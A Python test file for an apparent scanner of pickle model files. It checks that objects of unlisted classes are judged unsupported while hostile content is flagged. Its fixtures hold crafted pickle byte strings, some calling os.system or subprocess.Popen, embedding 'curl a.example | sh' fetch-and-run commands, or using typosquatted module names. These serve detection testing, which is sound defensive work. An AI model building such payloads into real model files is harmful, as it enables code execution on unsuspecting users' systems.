"""Objects of unlisted classes are unsupported: neither suspicious nor clean."""

from __future__ import annotations

import pytest

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.scanning import BytesSource
from schemas.severity import Verdict
from tests.corpus.assembly import call, stack_name

UNLISTED = "TW-PICKLE-UNLISTED-CLASS"
STATE = b"}\x8c\x01n\x4b\x03sb"


BOUND = b"\x80\x04cbuiltins\ngetattr\n(cacme.models\nSpace\nX\x08\x00\x00\x00generatetR"


def state(text):
    return b"}\x8c\x01n\x8c" + bytes([len(text)]) + text.encode() + b"sb"


def scanned(raw):
    report = scan_source("a.pkl", BytesSource(raw), frozenset())
    return report.verdict, {finding.rule_id for finding in report.detections}


def instance(module, name, build=STATE):
    return b"\x80\x04" + stack_name(module, name) + b")\x81" + build + b"."


@pytest.mark.parametrize(
    "raw",
    [
        instance("acme.models", "Net"),
        instance("acme.models", "raw_env"),
        instance("acme.models", "ScriptRunner"),
        instance("acme._io.registry", "Reader"),
        instance("acme.v1.types", "ConstrainedInt"),
        call("acme.models", "Decoder", 3),
        call("acme.models", "PruningRecord", 3),
        BOUND + b".",
        BOUND.replace(b"\x08\x00\x00\x00generate", b"\x07\x00\x00\x00__len__") + b".",
        instance("sklearn.linear_model._other", "OtherRegressor"),
        call("acme.models", "Net", 3, "mean"),
        call("acme._fast", "__pyx_unpickle_Tree", 3, 5, None),
        call("acme.models", "_reconstruct", 3),
        b"\x80\x04(" + stack_name("acme.text.forms", "lower") + b"t.",
        b"\x80\x04" + stack_name("acme.io._io", "imread") + b".",
    ],
)
def test_an_object_of_an_unlisted_class_is_unsupported_not_suspicious(raw):
    verdict, rules = scanned(raw)
    assert (verdict, UNLISTED in rules) == (Verdict.UNSUPPORTED, True)


@pytest.mark.parametrize(
    ("raw", "verdict"),
    [
        (call("acme.models", "ScriptRunner", 3), Verdict.MALICIOUS),
        (instance("acme.models", "ReverseShellPayload"), Verdict.SUSPICIOUS),
        (instance("acme.payload", "Net"), Verdict.SUSPICIOUS),
        (instance("evil", "Net"), Verdict.SUSPICIOUS),
        (call("acme.models", "combine", 3), Verdict.SUSPICIOUS),
        (call("acme.models", "Net", 1, "curl a.example | sh"), Verdict.MALICIOUS),
        (instance("sklaern.other", "Net"), Verdict.SUSPICIOUS),
        (instance("skl\u0435arn.other", "Net"), Verdict.SUSPICIOUS),
        (instance("dataset.table", "Table"), Verdict.UNSUPPORTED),
        (instance("acme.models", "Net", state("curl a.example | sh")), Verdict.SUSPICIOUS),
        (instance("acme.models", "Net", state("__import__('os').system('a')")), Verdict.SUSPICIOUS),
        (instance("acme.models", "Net", state("relu")), Verdict.UNSUPPORTED),
        (call("acme.models", "Net", "os.system"), Verdict.MALICIOUS),
        (call("acme.models", "Net", ("subprocess.Popen", 1)), Verdict.MALICIOUS),
        (BOUND + b"(tR.", Verdict.MALICIOUS),
        (BOUND.replace(b"generate", b"__dict__") + b".", Verdict.MALICIOUS),
        (call("acme.models", "Net", "curl https://a.example | sh"), Verdict.MALICIOUS),
        (call("acme.models", "load_net", "a"), Verdict.MALICIOUS),
        (call("h2o", "init"), Verdict.MALICIOUS),
        (call("streamlit.web.cli", "main"), Verdict.MALICIOUS),
        (call("acme.tool", "cli", ("a",)), Verdict.MALICIOUS),
        (call("acme.models", "initial", 3), Verdict.SUSPICIOUS),
        (instance("acme.models", "Init"), Verdict.UNSUPPORTED),
        (call("cupy", "RawKernel", "extern", "a"), Verdict.MALICIOUS),
        (call("cupyx.jit", "rawkernel", "a"), Verdict.MALICIOUS),
        (call("pyopencl", "Program", "a"), Verdict.MALICIOUS),
        (call("acme.models", "Net", 3) + b"cos\nsystem\n.", Verdict.MALICIOUS),
        (instance("acme.models", "Net")[:-1] + b"\xff", Verdict.MALICIOUS),
    ],
)
def test_harmful_parts_are_judged_beside_unlisted_classes(raw, verdict):
    assert scanned(raw)[0] is verdict


@pytest.mark.parametrize(
    ("attribute", "verdict"),
    [
        ("__hash__", Verdict.CLEAN),
        ("__class__", Verdict.MALICIOUS),
        ("__init__", Verdict.MALICIOUS),
    ],
)
def test_a_method_that_only_compares_is_looked_up_of_anything(attribute, verdict):
    assert scanned(call("builtins", "getattr", 3, attribute))[0] is verdict


def test_a_class_that_is_read_in_part_never_makes_a_file_clean():
    hostile = instance("acme.models", "Net")[:-1] + b"0" + call("os", "system", "id")[2:]
    verdict, rules = scanned(hostile)
    assert verdict is Verdict.MALICIOUS
    assert UNLISTED in rules


def test_a_known_packages_class_that_a_call_makes_is_on_the_list_or_suspicious():
    assert scanned(instance("cupy", "OtherKernel"))[0] is Verdict.UNSUPPORTED
    assert scanned(call("cupy", "OtherKernel", "x", 3))[0] is Verdict.SUSPICIOUS
